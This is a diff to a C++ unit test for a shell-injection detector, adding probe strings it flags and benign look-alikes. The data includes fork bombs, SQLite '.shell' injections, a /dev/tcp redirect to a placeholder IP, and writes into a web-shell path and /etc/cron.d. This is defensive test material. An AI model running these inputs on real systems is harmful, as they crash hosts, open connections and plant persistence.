@@ -1,6 +1,7 @@
 // Command injection hidden by shell expansion: variables assigned in the value and expanded
 // later, special parameters spliced into words, empty process substitutions, ANSI-C quoting,
-// fork bombs and SQLite shell dot-commands; and benign text with the same characters.
+// fork bombs, SQLite shell dot-commands, values that are only a tilde or history expansion or
+// an output redirection; and benign text with the same characters.
 #include <gtest/gtest.h>
 
 #include "libs/detect/test_util.h"
@@ -29,7 +30,12 @@ INSTANTIATE_TEST_SUITE_P(
         // Fork bombs under any name.
         ":(){ :|:& };:", "f(){ f & f; };f", "bomb() { bomb | bomb & }; bomb",
         // SQLite shell dot-commands after a separator.
-        "1;.shell whoami", "x;.system id"));
+        "1;.shell whoami", "x;.system id",
+        // A value that is only a directory-stack tilde or history designators.
+        "~+", "~-", "~+5", " ~-12 ", "!-1", "!-1!-2", "!!!-3", "!$!-2",
+        // A value that is only an output redirection into a system location.
+        ">/tmp/curl", ">> /var/www/html/shell.php", "2>/dev/tcp/192.0.2.1/4444",
+        "&>/etc/cron.d/x"));
 
 class ExpansionLikeBenign : public ::testing::TestWithParam<const char*> {};
 TEST_P(ExpansionLikeBenign, IsAllowed) {
@@ -44,7 +50,12 @@ INSTANTIATE_TEST_SUITE_P(Text, ExpansionLikeBenign,
                              // Money and questions, JS functions, file names with dots.
                              "costs $5?! really", "US$_20 bill", "render() { return a | b; }",
                              "function f() { f(); }", "see file .shell_history? no",
-                             "x;.sh is a file extension", "Привет $друг; как дела?"));
+                             "x;.sh is a file extension", "Привет $друг; как дела?",
+                             // Punctuation, quotes and arithmetic near the probe shapes.
+                             "~", "~-~", "~+~", "~+a", "~-1234", "!!", "!!!", "wow!!",
+                             "!-1 is not one", "!1", "-1!", "x!-1",
+                             "> /r/programming is where I read it", ">/tmp/",
+                             "> /tmp/x was the file", ">/docs/guide"));
 
 }  // namespace
 }  // namespace shieldx::detect
